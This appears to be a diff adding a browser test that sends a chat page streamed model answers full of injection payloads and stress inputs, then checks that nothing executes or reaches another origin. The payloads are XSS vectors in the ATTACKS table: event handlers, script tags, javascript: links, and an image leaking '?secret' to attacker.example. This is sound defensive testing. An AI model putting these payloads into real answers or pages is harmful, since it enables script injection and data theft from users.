@@ -1,0 +1,147 @@
+"""Row 45 of docs/faults.md: the chat page of a real server, and a model that answers with an attack.
+
+The page, its policy and its model list come from the server. Only the answer's events are put in, between the
+server and the page, so that any text can be one.
+"""
+
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import pytest
+from playwright.sync_api import Browser, Route, expect, sync_playwright
+
+from tests.app.server_process import ROOT
+from tests.faults.harness import Service
+from tests.static.chat_page import ChatPage
+from tests.static.conftest import CHROMIUM_FLAGS, find_chromium
+
+pytestmark = pytest.mark.browser
+
+FREEZE_MS = 200.0
+TRIES = 3  # of a measurement: other programs of this machine may only make it longer
+ELSEWHERE = "http://attacker.example"
+
+# Notes whatever an answer could make the page do: dialogs, changed globals, and tasks of the page's thread.
+WATCH = """
+window.hit = [];
+window.tasks = [];
+for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = (text) => { hit.push(name); };
+new PerformanceObserver((list) => {
+  for (const entry of list.getEntries()) tasks.push(entry.duration);
+}).observe({ type: 'longtask', buffered: true });
+"""
+
+CODE = "const x=[" + "1234567890," * 95_000 + "];"
+AWAY = f"'{ELSEWHERE}'"
+ATTACKS: dict[str, str] = {
+    "handler": f'Look: <img src=x onerror="alert(1)"><svg onload=alert(2)><iframe src={AWAY}></iframe>',
+    "script": f"<script>alert(1)</script><script src={AWAY}></script><style>*{{display:none}}</style>",
+    "link": "[click](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>) "
+    "<a href='javascript:alert(1)'>x</a>",
+    "image": f"![]({ELSEWHERE}/leak.png?secret) <img src={AWAY}> <link rel=prefetch href={AWAY}>",
+    "form": f"<form action={AWAY}><button>go</button></form>"
+    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
+    "dollars": "$" * 3001 + "\\frac{1}{" * 2000 + "$$ x $ y $$$",
+    "quotes": "\n".join(">" * depth + " deep" for depth in range(1, 60)) + "\n" + ">" * 10_000 + " bottom",
+    "brackets": "[" * 10_000 + "](" * 10_000 + "*_`~" * 2_500,
+    "marks": "<|python_start|>" * 1000 + "1+1" + "<|output_start|>" * 1000 + "<|python_end|>",
+    "directions": "\u202egnp.exe \u2066\u200b\x00\x07\x1b[31m" + "\u0301" * 1_000,
+    "code": "```js\n" + CODE + "\n```",
+}
+PIECE = 4096  # characters of an event
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    path = find_chromium()
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=path, args=CHROMIUM_FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(scope="module")
+def plain(browser: Browser, plain_service: Service) -> Service:
+    """Behind the browser, so that a machine without one starts no server either."""
+    return plain_service
+
+
+@dataclass
+class Attack:
+    """The page, and the answer that its next question gets."""
+
+    chat: ChatPage
+    text: str = ""
+
+    def answer(self, route: Route) -> None:
+        pieces = [self.text[at : at + PIECE] for at in range(0, len(self.text), PIECE)]
+        deltas = [{"content": piece} for piece in pieces]
+        events = [({"role": "assistant", "content": ""}, None), *((d, None) for d in deltas), ({}, "stop")]
+        data = "".join(
+            f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta, 'finish_reason': finish}]})}\n\n"
+            for delta, finish in events
+        )
+        route.fulfill(body=data + "data: [DONE]\n\n", content_type="text/event-stream; charset=utf-8")
+
+
+@pytest.fixture(scope="module")
+def attack(browser: Browser, plain: Service) -> Attack:
+    page = browser.new_page()
+    page.add_init_script(WATCH)
+    attack = Attack(ChatPage(page))
+    page.route("**/v1/chat/completions", attack.answer)
+    page.route(f"{ELSEWHERE}/**", lambda route: route.abort())
+    return attack
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_45_an_answer_that_attacks_the_page(
+    attack: Attack, service: Service, plain: Service, name: str
+) -> None:
+    """No script of it runs, nothing is asked of another origin, and the page does not freeze."""
+    chat, page = attack.chat, attack.chat.page
+    longest = []
+    for _ in range(TRIES):
+        chat.open(f"http://127.0.0.1:{service.port}/")
+        attack.text = ATTACKS[name]
+        page.evaluate("tasks.length = 0")
+        chat.send("Go on")
+        expect(chat.answers).to_have_count(1)
+        chat.wait_until_settled(30_000)
+        page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50)))")
+        check_harmless(attack)
+        longest.append(max(page.evaluate("tasks"), default=0.0))
+        if longest[-1] < FREEZE_MS:
+            break
+    print(f"longest task of the page: {min(longest):.0f} ms")
+    assert min(longest) < FREEZE_MS
+
+
+def check_harmless(attack: Attack) -> None:
+    chat, page = attack.chat, attack.chat.page
+    assert page.evaluate("hit") == []
+    found = page.evaluate(
+        "() => [...document.querySelectorAll('.answer .body *')].map((e) => e.tagName.toLowerCase())"
+    )
+    assert set(found) <= {"span", "p", "pre", "code", "br"}, set(found)
+    assert page.evaluate("document.querySelectorAll('.answer .body [href], .answer .body [src]').length") == 0
+    shown = chat.body.text_content() or ""
+    if "python_start" not in attack.text:
+        assert shown == attack.text
+    page.mouse.click(5, 5)  # wherever an overlay might lie
+    assert page.url == chat.url
+    assert len(page.context.pages) == 1
+    chat.check_clean()
+
+
+def test_45_the_page_holds_no_text_as_markup(plain: Service, service: Service) -> None:
+    """The policy that would stop what slipped through, as the server sends it."""
+    policy = service.get("/").headers["content-security-policy"]
+    rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";") if rule.strip()}
+    assert rules["default-src"] == ["'none'"] and rules["script-src"] == ["'self'"]
+    assert rules["connect-src"] == ["'self'"] and rules["form-action"] == ["'none'"]
+    assert rules["base-uri"] == ["'none'"] and rules["frame-ancestors"] == ["'none'"]
+    assert "unsafe" not in policy and "http" not in policy and "*" not in policy
+    for script in (ROOT / "static").glob("*.js"):
+        assert "innerHTML" not in script.read_text() and "eval(" not in script.read_text(), script
